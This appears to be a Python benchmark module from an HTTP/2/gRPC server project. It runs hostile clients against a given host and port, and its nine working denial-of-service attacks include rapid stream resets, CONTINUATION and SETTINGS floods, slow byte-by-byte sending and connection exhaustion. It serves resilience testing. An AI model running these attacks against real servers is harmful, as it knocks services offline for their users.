"""Clients that mean harm, as fast as they can, until they are killed.

Room:      benchmarks   (a program of its own; started by hostile)
Loop:      none
Lifetime:  one sample
Fabric:    none

Usage: attacks.py ATTACK HOST PORT

Whoever is sent away comes again at once. Each attack is the work of one client, with one connection
at a time, but for those that need many.
"""

from __future__ import annotations

import os
import random
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle

from hpack import Encoder
from wire import DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, SETTINGS, data_frame, frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, b"")
HEALTH = "/grpc.health.v1.Health/Check"
STREAMS = 10_000
SLOW = 50
"""Connections of a client that sends byte by byte; a byte on one of them every `PAUSE_S`."""
SILENT = 200
"""Connections on which nothing is said."""
PAUSE_S = 0.001
PRIORITY, CONTINUATION = 2, 9

Dial = Callable[[], socket.socket]


class Headers:
    """Packed headers of one connection; the first ones fill its table."""

    def __init__(self) -> None:
        self._encoder = Encoder()

    def __call__(self, path: str = HEALTH) -> bytes:
        return self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ]
        )


def garbage(dial: Dial) -> None:
    """Frames of every kind, at random."""
    noise = random.Random(os.getpid())
    with dial() as sock:
        sock.sendall(PREFACE)
        while True:
            frames = [
                frame(
                    noise.randrange(12),
                    noise.randrange(8),
                    noise.randbytes(noise.randrange(64)),
                    noise.randrange(256),
                )
                for _ in range(10)
            ]
            sock.sendall(b"".join(frames))


def never_reads(dial: Dial) -> None:
    """Ask, and ask again, and leave all answers unread."""
    with dial() as sock:
        sock.sendall(PREFACE)
        headers, call = Headers(), 1
        while True:
            head = frame(HEADERS, call, headers(), END_HEADERS)
            sock.sendall(head + data_frame(call, b"", END_STREAM))
            call += 2


def burst(dial: Dial) -> None:
    """Open 10,000 streams at once."""
    with dial() as sock:
        headers, calls = Headers(), range(1, 2 * STREAMS, 2)
        heads = [frame(HEADERS, call, headers(), END_HEADERS) for call in calls]
        sock.sendall(PREFACE + b"".join(heads))
        _read_to_the_end(sock)


def resets(dial: Dial) -> None:
    """Open streams and take each back at once."""
    with dial() as sock:
        sock.sendall(PREFACE)
        headers = Headers()
        for call in range(1, 2**31, 2):
            head = frame(HEADERS, call, headers(), END_HEADERS)
            sock.sendall(head + frame(RST_STREAM, call, (8).to_bytes(4, "big")))


def dribbling(dial: Dial) -> None:
    """Send requests byte by byte, many at once."""
    socks = [dial() for _ in range(SLOW)]
    request = PREFACE + frame(HEADERS, 1, Headers()(), END_HEADERS) + frame(DATA, 1, bytes(10_000))
    for byte in request:
        for sock in socks:
            sock.sendall(bytes([byte]))
            time.sleep(PAUSE_S)


def half_open(dial: Dial) -> None:
    """Hold connections on which nothing is said, or no more than hello."""
    socks = [dial() for _ in range(SILENT)]
    for sock in socks[::2]:
        sock.sendall(PREFACE)
    for sock in cycle(socks):
        with sock:
            _read_to_the_end(sock)
        socks[socks.index(sock)] = dial()


def settings(dial: Dial) -> None:
    """Change settings that have to be acknowledged, without end."""
    with dial() as sock:
        sock.sendall(PREFACE)
        while True:
            sock.sendall(frame(SETTINGS, 0, b"\0\4" + (70_000).to_bytes(4, "big")) * 100)


def headers_without_end(dial: Dial) -> None:
    """Send one list of headers that never ends."""
    with dial() as sock:
        sock.sendall(PREFACE + frame(HEADERS, 1, b"\0" * 100))
        while True:
            sock.sendall(frame(CONTINUATION, 1, b"\0" * 100) * 100)


def knocking(dial: Dial) -> None:
    """Connect and leave."""
    while True:
        dial().close()


ATTACKS = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        garbage,
        never_reads,
        burst,
        resets,
        dribbling,
        half_open,
        settings,
        headers_without_end,
        knocking,
    )
}


def _read_to_the_end(sock: socket.socket) -> None:
    while sock.recv(1 << 16):
        pass


def main(attack: str, host: str, port: str) -> None:
    """Attack for ever."""
    os.nice(19)  # the honest client shares the CPU, and is not to wait for this one
    print(flush=True)
    while True:
        with suppress(OSError):
            ATTACKS[attack](lambda: socket.create_connection((host, int(port))))


if __name__ == "__main__":
    main(*sys.argv[1:])
